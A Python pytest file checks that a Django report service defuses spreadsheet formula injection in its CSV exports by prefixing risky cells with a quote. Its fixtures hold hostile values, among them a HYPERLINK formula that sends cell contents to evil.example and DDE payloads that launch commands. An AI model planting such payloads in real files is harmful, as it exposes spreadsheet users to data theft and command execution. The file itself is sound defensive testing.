"""A report's text cannot plant spreadsheet formulas in the CSV exports (issue 14).

Anyone who can send a report to a tenant's address chooses the organization name, MX host,
result type, reason code and additional information: every text cell that a spreadsheet
would read as a formula starts with a ' in both exports; numbers stay numbers.
"""

import csv
import io

import pytest
from django.urls import reverse

from accounts.models import Tenant
from reports.dashboards.exports import csv_cell
from tests.factories import make_domain
from tests.reports.helpers import ingest
from tests.reports.mail import report_email, report_json

pytestmark = pytest.mark.django_db

DAY = "2026-11-01"
PERIOD = {"from": DAY, "to": DAY}
HOSTILE = {
    "organization-name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "receiving-mx-hostname": "=cmd|' /c calc'!a0",  # host names are stored lower-case
    "result-type": "-2+3+cmd|' /C calc'!A0",
    "failure-reason-code": "+SUM(1,2)",
    "additional-information": "@SUM(1)",
    "receiving-mx-helo": "\t=1+1",
}


def hostile_report(tenant: Tenant) -> None:
    document = report_json(domain="example.org", day=DAY, failed=3)
    document["organization-name"] = HOSTILE["organization-name"]
    detail = document["policies"][0]["failure-details"][0]
    detail.update({k: v for k, v in HOSTILE.items() if k != "organization-name"})
    ingest(tenant, report_email(document))


def export(client, what: str) -> list[dict[str, str]]:
    response = client.get(reverse("export_csv", args=["acme", what]), PERIOD)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_failure_export_prefixes_every_formula_cell(acme, owner) -> None:
    make_domain(acme, "example.org")
    hostile_report(acme)
    [row] = export(owner, "failures")
    assert row["organization"] == "'" + HOSTILE["organization-name"]
    assert row["receiving_mx_hostname"] == "'" + HOSTILE["receiving-mx-hostname"]
    assert row["result_type"] == "'" + HOSTILE["result-type"]
    assert row["failure_reason_code"] == "'" + HOSTILE["failure-reason-code"]
    assert row["additional_information"] == "'" + HOSTILE["additional-information"]
    assert row["receiving_mx_helo"] == "'" + HOSTILE["receiving-mx-helo"]
    assert row["failed_session_count"] == "3"  # a number stays a number
    assert row["sending_mta_ip"] == "192.0.2.10"


def test_daily_export_prefixes_the_organization(acme, owner) -> None:
    make_domain(acme, "example.org")
    hostile_report(acme)
    [row] = export(owner, "daily")
    assert row["organization"] == "'" + HOSTILE["organization-name"]
    assert (row["successful"], row["failed"]) == ("10", "3")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1", "-1"),
        ("+2.5", "+2.5"),
        ("mx.example.org", "mx.example.org"),
        ("", ""),
        (-7, -7),
        (None, None),
    ],
)
def test_a_cell_is_defused_only_when_it_could_start_a_formula(value, written) -> None:
    assert csv_cell(value) == written
